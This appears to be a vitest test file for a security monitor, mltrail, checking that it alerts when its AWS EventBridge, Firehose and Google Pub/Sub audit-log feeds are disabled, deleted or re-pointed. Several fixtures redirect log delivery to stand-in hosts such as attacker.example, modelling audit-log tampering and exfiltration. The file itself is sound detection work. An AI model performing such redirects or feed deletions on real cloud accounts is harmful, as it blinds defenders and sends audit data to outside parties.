import { describe, expect, it } from 'vitest';
import { replayEvents } from '../../bridge/replay.js';
import { RulesConfig } from '../../core/rules/engine.js';
import type { Alert, NormalizedEvent } from '../../core/schema/index.js';
import { ctRecord, norm, normOne } from '../connectors/sagemaker/helpers.js';
import { PROJECT, auditEntry, normOneConfigured } from '../connectors/vertex/samples.js';

/**
 * mltrail's own feeds switched off (platform.audit_log_tampering): the EventBridge rule, API destination and
 * connection and the Firehose stream delivering CloudTrail to the bridge, and the Pub/Sub subscription delivering
 * Cloud Audit Logs. Before, their calls were skipped (`events.amazonaws.com is not ML-relevant`) or normalized as
 * generic `resource.*` events, and nothing told the SOC mltrail had been blinded.
 */

let n = 0;
function aws(eventSource: string, eventName: string, params: Record<string, unknown>, config: Record<string, unknown> = {}): NormalizedEvent {
  return normOne(ctRecord(eventName, params, { eventSource, eventID: `feed-${++n}`, eventTime: `2026-11-27T10:${String(n % 60).padStart(2, '0')}:00Z` }), config);
}
const events = (eventName: string, params: Record<string, unknown>) => aws('events.amazonaws.com', eventName, params);
const alerts = (evs: NormalizedEvent[]): Alert[] => replayEvents(evs, { rules: RulesConfig.parse({}) }).alerts.filter((a) => a.rule_id === 'platform.audit_log_tampering');

describe('EventBridge and Firehose feeds', () => {
  it('DisableRule, RemoveTargets, DeleteRule of the mltrail rule each alert, naming the feed and what was done', () => {
    const dis = events('DisableRule', { name: 'sagemaker-to-mltrail', eventBusName: 'default' });
    expect(dis).toMatchObject({ action: 'audit_log.disable', resource: { type: 'eventbridge_rule', name: 'sagemaker-to-mltrail' }, details: { trail: 'sagemaker-to-mltrail', feed: 'eventbridge_rule' } });
    const rm = events('RemoveTargets', { rule: 'sagemaker-to-mltrail', ids: ['mltrail'], force: false });
    const del = events('DeleteRule', { name: 'sagemaker-to-mltrail' });
    const a = alerts([dis, rm, del]);
    expect(a.map((x) => [x.entity.id, x.details.action, x.evidence])).toEqual([
      ['111122223333:us-east-1:sagemaker-to-mltrail', 'audit_log.disable', [dis.id]],
      ['111122223333:us-east-1:sagemaker-to-mltrail', 'audit_log.disable', [rm.id]],
      ['111122223333:us-east-1:sagemaker-to-mltrail', 'audit_log.delete', [del.id]],
    ]);
    // Its targets never seen added: what it removed is not known, so it is still reported, saying so.
    expect(a[1]!.summary).toContain('removed its target mltrail (never seen added: whether it delivered to mltrail is not known)');
    expect(a[1]!.details).toMatchObject({ feed_change: 'removed its targets', feed_targets_unknown: ['mltrail'] });
    expect(a[2]!.summary).toContain('deleted the EventBridge rule delivering to mltrail');
  });

  it("another team's rule is not mltrail's feed: read as feed_named: false (it may forward to mltrail's bus) and judged as none; its EnableRule skipped as before; feed_names names others", () => {
    const dis = events('DisableRule', { name: 'nightly-batch' });
    expect(dis).toMatchObject({ action: 'audit_log.disable', details: { trail: 'nightly-batch', feed_named: false } });
    expect(alerts([dis])).toEqual([]);
    const out = norm(ctRecord('EnableRule', { name: 'nightly-batch' }, { eventSource: 'events.amazonaws.com' }));
    expect(out.events).toEqual([]);
    expect(out.skipped?.[0]?.reason ?? JSON.stringify(out.skipped)).toContain('not ML-relevant');
    expect(aws('events.amazonaws.com', 'DisableRule', { name: 'siem-ml' }, { feed_names: ['siem-*'] }).action).toBe('audit_log.disable');
  });

  it('PutRule: a pattern that stops matching a source delivered before alerts; the first pattern seen, or a wider one, does not', () => {
    const first = events('PutRule', { name: 'sagemaker-to-mltrail', eventPattern: JSON.stringify({ source: ['aws.sagemaker', 'aws.s3', 'aws.cloudtrail'] }), state: 'ENABLED' });
    expect(first.details).toMatchObject({ feed_sources: ['aws.sagemaker', 'aws.s3', 'aws.cloudtrail'] });
    const wider = events('PutRule', { name: 'sagemaker-to-mltrail', eventPattern: JSON.stringify({ source: ['aws.sagemaker', 'aws.s3', 'aws.cloudtrail', 'aws.ecr'] }), state: 'ENABLED' });
    const narrow = events('PutRule', { name: 'sagemaker-to-mltrail', eventPattern: JSON.stringify({ source: ['aws.s3'] }), state: 'ENABLED' });
    const a = alerts([first, wider, narrow]);
    expect(a.map((x) => [x.details.feed_sources_dropped, x.evidence])).toEqual([[['aws.sagemaker', 'aws.cloudtrail', 'aws.ecr'], [narrow.id]]]);
    // PutRule setting the rule DISABLED is a DisableRule.
    expect(events('PutRule', { name: 'sagemaker-to-mltrail', state: 'DISABLED' }).action).toBe('audit_log.disable');
  });

  const APIDEST = 'arn:aws:events:us-east-1:111122223333:api-destination/mltrail/8b1e1f9c-3c52-4a59-9e0f-0f3b2c7e1a11';
  const ROLE = 'arn:aws:iam::111122223333:role/mltrail-eventbridge';
  const putTargets = (targets: Array<Record<string, unknown>>) => events('PutTargets', { rule: 'sagemaker-to-mltrail', eventBusName: 'default', targets });

  it("PutTargets re-pointing the rule's mltrail target elsewhere alerts, naming the ARN before; a target added beside it does not", () => {
    const setup = putTargets([{ id: 'mltrail', arn: APIDEST, roleArn: ROLE, deadLetterConfig: { arn: 'arn:aws:sqs:us-east-1:111122223333:mltrail-dlq' } }]);
    expect(setup).toMatchObject({ action: 'audit_log.update', resource: { type: 'eventbridge_rule', name: 'sagemaker-to-mltrail' }, details: { feed: 'eventbridge_rule', feed_targets: [{ id: 'mltrail', arn: APIDEST, to_feed: true, id_named: true }] } });
    const logs = putTargets([{ id: 'audit-copy', arn: 'arn:aws:logs:us-east-1:111122223333:log-group:/aws/events/ml' }]);
    const away = putTargets([{ id: 'mltrail', arn: 'arn:aws:lambda:us-east-1:444455556666:function:sink', roleArn: ROLE }]);
    const a = alerts([setup, logs, away]);
    expect(a.map((x) => [x.details.action, x.details.feed_targets_repointed, x.evidence])).toEqual([
      ['audit_log.update', [{ id: 'mltrail', arn: 'arn:aws:lambda:us-east-1:444455556666:function:sink', was: APIDEST }], [away.id]],
    ]);
    expect(a[0]!.summary).toContain(`pointed target mltrail at arn:aws:lambda:us-east-1:444455556666:function:sink, not ${APIDEST}`);
    // Back onto another of mltrail's feeds (a Firehose stream): no cut.
    const fh = putTargets([{ id: 'mltrail', arn: 'arn:aws:firehose:us-east-1:111122223333:deliverystream/cloudtrail-to-mltrail', roleArn: ROLE }]);
    expect(alerts([setup, fh])).toEqual([]);
  });

  it('PutTargets on a rule whose targets were never seen: the mltrail-named target pointed elsewhere alerts, another id does not; a removed target is forgotten', () => {
    const away = putTargets([{ id: 'mltrail', arn: 'arn:aws:sqs:us-east-1:444455556666:drop' }]);
    expect(alerts([away]).map((x) => x.details.feed_targets_repointed)).toEqual([[{ id: 'mltrail', arn: 'arn:aws:sqs:us-east-1:444455556666:drop' }]]);
    expect(alerts([putTargets([{ id: 'Target1', arn: 'arn:aws:sqs:us-east-1:111122223333:copy' }])])).toEqual([]);
    // A target id removed, then reused for something else: judged as never seen (Target1 is no mltrail name).
    const t1 = putTargets([{ id: 'Target1', arn: APIDEST }]);
    const rm = events('RemoveTargets', { rule: 'sagemaker-to-mltrail', ids: ['Target1'] });
    const reuse = putTargets([{ id: 'Target1', arn: 'arn:aws:sqs:us-east-1:111122223333:copy' }]);
    expect(alerts([t1, rm, reuse]).map((x) => x.evidence)).toEqual([[rm.id]]);
    // A failed PutTargets changes nothing.
    const failed = normOne(ctRecord('PutTargets', { rule: 'sagemaker-to-mltrail', targets: [{ id: 'mltrail', arn: 'arn:aws:sqs:us-east-1:444455556666:drop' }] }, { eventSource: 'events.amazonaws.com', eventID: 'feed-failed', errorCode: 'AccessDeniedException', errorMessage: 'x' }));
    expect(alerts([failed])).toEqual([]);
  });

  it("DeleteEventBus of a bus feed_names names alerts (the bus's rules go with it); another bus, no feed rule seen on it, does not", () => {
    const del = aws('events.amazonaws.com', 'DeleteEventBus', { name: 'mltrail-bus' });
    expect(del).toMatchObject({ action: 'audit_log.delete', resource: { type: 'eventbridge_bus', name: 'mltrail-bus' } });
    const a = alerts([del]);
    expect(a.map((x) => [x.entity.id, x.details.action])).toEqual([['111122223333:us-east-1:mltrail-bus', 'audit_log.delete']]);
    expect(a[0]!.summary).toContain("deleted the EventBridge event bus of mltrail's rule");
    const orders = aws('events.amazonaws.com', 'DeleteEventBus', { name: 'orders' });
    expect(orders).toMatchObject({ action: 'audit_log.delete', resource: { type: 'eventbridge_bus', name: 'orders' }, details: { feed_named: false } });
    expect(alerts([orders])).toEqual([]);
  });

  it('API destination and connection: deleted, pointed elsewhere, credentials changed', () => {
    const a = alerts([
      events('DeleteApiDestination', { name: 'mltrail' }),
      events('UpdateApiDestination', { name: 'mltrail', invocationEndpoint: 'https://attacker.example/in' }),
      events('UpdateConnection', { name: 'mltrail', authorizationType: 'API_KEY', authParameters: { apiKeyAuthParameters: { apiKeyName: 'x' } } }),
    ]);
    expect(a.map((x) => [x.details.action, x.details.log_destination ?? x.details.feed_change ?? null])).toEqual([
      ['audit_log.delete', null],
      ['audit_log.update', 'https://attacker.example/in'],
      ['audit_log.update', "changed the connection's credentials (mltrail's sender check then refuses what it delivers)"],
    ]);
  });

  it('Firehose: the stream deleted, or its HTTP endpoint moved, alerts', () => {
    const fh = (name: string, p: Record<string, unknown>) => aws('firehose.amazonaws.com', name, p);
    const a = alerts([
      fh('DeleteDeliveryStream', { deliveryStreamName: 'cloudtrail-to-mltrail' }),
      fh('UpdateDestination', { deliveryStreamName: 'cloudtrail-to-mltrail', currentDeliveryStreamVersionId: '3', destinationId: 'destinationId-000000000001', httpEndpointDestinationUpdate: { endpointConfiguration: { url: 'https://attacker.example/fh', name: 'x' } } }),
      // Buffering changed only: not judged.
      fh('UpdateDestination', { deliveryStreamName: 'cloudtrail-to-mltrail', currentDeliveryStreamVersionId: '4', destinationId: 'destinationId-000000000001', httpEndpointDestinationUpdate: { bufferingHints: { intervalInSeconds: 60 } } }),
    ]);
    expect(a.map((x) => [x.entity.id, x.details.action, x.details.log_destination ?? null])).toEqual([
      ['111122223333:us-east-1:cloudtrail-to-mltrail', 'audit_log.delete', null],
      ['111122223333:us-east-1:cloudtrail-to-mltrail', 'audit_log.update', 'https://attacker.example/fh'],
    ]);
  });
});

describe('Pub/Sub feed subscription', () => {
  const SUB = `projects/${PROJECT}/subscriptions/mltrail-vertex-push`;
  function pubsub(method: string, request: Record<string, unknown>, resourceName = SUB, config: Record<string, unknown> = {}): NormalizedEvent {
    const e = auditEntry({ method: `google.pubsub.v1.${method}`, resourceName, request });
    (e.protoPayload as Record<string, unknown>).serviceName = 'pubsub.googleapis.com';
    e.resource = { type: 'pubsub_subscription', labels: { project_id: PROJECT, subscription_id: resourceName.split('/').pop() } };
    return normOneConfigured(e, config);
  }

  it('deleted, detached, push emptied or pointed elsewhere: each alerts', () => {
    const evs = [
      pubsub('Subscriber.DeleteSubscription', { subscription: SUB }),
      pubsub('Publisher.DetachSubscription', { subscription: SUB }),
      pubsub('Subscriber.ModifyPushConfig', { subscription: SUB, pushConfig: {} }),
      pubsub('Subscriber.UpdateSubscription', { subscription: { name: SUB, pushConfig: { pushEndpoint: 'https://attacker.example/push' } }, updateMask: 'push_config' }),
    ];
    expect(evs.map((e) => [e.action, e.resource?.type])).toEqual([
      ['audit_log.delete', 'pubsub_subscription'], ['audit_log.disable', 'pubsub_subscription'], ['audit_log.disable', 'pubsub_subscription'], ['audit_log.update', 'pubsub_subscription'],
    ]);
    const a = alerts(evs);
    expect(a.map((x) => [x.entity.name ?? x.entity.id, x.details.action])).toEqual([[SUB, 'audit_log.delete'], [SUB, 'audit_log.disable'], [SUB, 'audit_log.disable'], [SUB, 'audit_log.update']]);
    expect(a[3]!.details.log_destination).toBe('https://attacker.example/push');
  });

  it("the log sink's topic deleted alerts; another topic is not judged", () => {
    const TOPIC = `projects/${PROJECT}/topics/mltrail-vertex`;
    const e = auditEntry({ method: 'google.pubsub.v1.Publisher.DeleteTopic', resourceName: TOPIC, request: { '@type': 'type.googleapis.com/google.pubsub.v1.DeleteTopicRequest', topic: TOPIC } });
    (e.protoPayload as Record<string, unknown>).serviceName = 'pubsub.googleapis.com';
    e.resource = { type: 'pubsub_topic', labels: { project_id: PROJECT, topic_id: 'mltrail-vertex' } };
    const ev = normOneConfigured(e, {});
    expect(ev).toMatchObject({ action: 'audit_log.delete', resource: { type: 'pubsub_topic' }, details: { trail: TOPIC, feed: 'pubsub_topic' } });
    const a = alerts([ev]);
    expect(a.map((x) => [x.entity.name ?? x.entity.id, x.details.action])).toEqual([[TOPIC, 'audit_log.delete']]);
    expect(a[0]!.summary).toContain("deleted the Pub/Sub topic of mltrail's log sink");
    const other = `projects/${PROJECT}/topics/orders`;
    const o = auditEntry({ method: 'google.pubsub.v1.Publisher.DeleteTopic', resourceName: other, request: { topic: other } });
    (o.protoPayload as Record<string, unknown>).serviceName = 'pubsub.googleapis.com';
    expect(normOneConfigured(o, {}).action).toBe('resource.delete');
    // UpdateTopic (message storage regions, retention, schema) is no cut: not an audit_log event.
    const upd = auditEntry({ method: 'google.pubsub.v1.Publisher.UpdateTopic', resourceName: TOPIC, request: { topic: { name: TOPIC, messageStoragePolicy: { allowedPersistenceRegions: ['europe-west1'] } }, updateMask: 'message_storage_policy' } });
    (upd.protoPayload as Record<string, unknown>).serviceName = 'pubsub.googleapis.com';
    expect(normOneConfigured(upd, {}).action).not.toMatch(/^audit_log\./);
  });

  it("another subscription is not judged; the configured pull subscription's empty push config changes nothing", () => {
    const other = `projects/${PROJECT}/subscriptions/billing`;
    expect(pubsub('Subscriber.DeleteSubscription', { subscription: other }, other).action).toBe('resource.delete');
    const pull = `projects/${PROJECT}/subscriptions/siem-pull`;
    const cfg = { pull: { subscription: pull } };
    expect(pubsub('Subscriber.DeleteSubscription', { subscription: pull }, pull, cfg).action).toBe('audit_log.delete');
    expect(pubsub('Subscriber.ModifyPushConfig', { subscription: pull, pushConfig: {} }, pull, cfg).action).toBe('resource.update');
  });
});

describe('EventBridge feed rule: narrowed besides its sources, or re-pointed (verify25a)', () => {
  const rule = 'sagemaker-to-mltrail';
  const put = (pattern: Record<string, unknown>) => events('PutRule', { name: rule, eventPattern: JSON.stringify(pattern), state: 'ENABLED' });
  const BASE = { source: ['aws.sagemaker', 'aws.s3'], 'detail-type': ['AWS API Call via CloudTrail'] };

  it('a pattern keeping its sources but matching another detail-type or only some event names alerts; a wider one does not', () => {
    // Built in order: each event is dated a minute after the one before.
    const base = put(BASE);
    const none = put({ ...BASE, 'detail-type': ['Nothing Ever Sent'] });
    const a = alerts([base, none]);
    expect(a.map((x) => [x.details.feed_pattern_narrowed, x.evidence])).toEqual([['detail-type lost values', [none.id]]]);
    expect(a[0]!.summary).toContain('narrowed what its event pattern matches besides its sources');
    const base2 = put(BASE);
    const names = put({ ...BASE, detail: { eventName: ['ListModels'] } });
    expect(alerts([base2, names]).map((x) => x.details.feed_pattern_narrowed)).toEqual(['detail added']);
    // Wider: another detail-type allowed, another source; a detail filter dropped.
    expect(alerts([put({ ...BASE, detail: { eventSource: ['sagemaker.amazonaws.com'] } }), put({ ...BASE, 'detail-type': ['AWS API Call via CloudTrail', 'AWS Service Event via CloudTrail'], source: ['aws.sagemaker', 'aws.s3', 'aws.ecr'] })])).toEqual([]);
  });

  it('PutTargets giving a target seen before another ARN alerts; adding a target, or putting the same one again, does not', () => {
    const own = 'arn:aws:events:us-east-1:111122223333:api-destination/mltrail/abc';
    const target = (id: string, arn: string) => events('PutTargets', { rule, targets: [{ id, arn, roleArn: 'arn:aws:iam::111122223333:role/eb' }] });
    const before = [target('mltrail', own), target('mltrail', own), target('archive', 'arn:aws:s3:::x')];
    const moved = target('mltrail', 'arn:aws:events:us-east-1:444455556666:api-destination/collector/x');
    const a = alerts([...before, moved]);
    expect(a.map((x) => [x.details.feed_targets_repointed, x.evidence])).toEqual([[[{ id: 'mltrail', arn: 'arn:aws:events:us-east-1:444455556666:api-destination/collector/x', was: own }], [moved.id]]]);
    // Removed and put again elsewhere: the RemoveTargets alerts, and so does the put (a target whose id feed_names
    // names, `mltrail`, delivering elsewhere); a target of another id added beside it does not.
    const again = [target('mltrail', own), events('RemoveTargets', { rule, ids: ['mltrail'] }), target('mltrail', 'arn:aws:events:us-east-1:444455556666:api-destination/collector/x'), target('archive', 'arn:aws:s3:::y')];
    expect(alerts(again).map((x) => x.details.action)).toEqual(['audit_log.disable', 'audit_log.update']);
  });
});
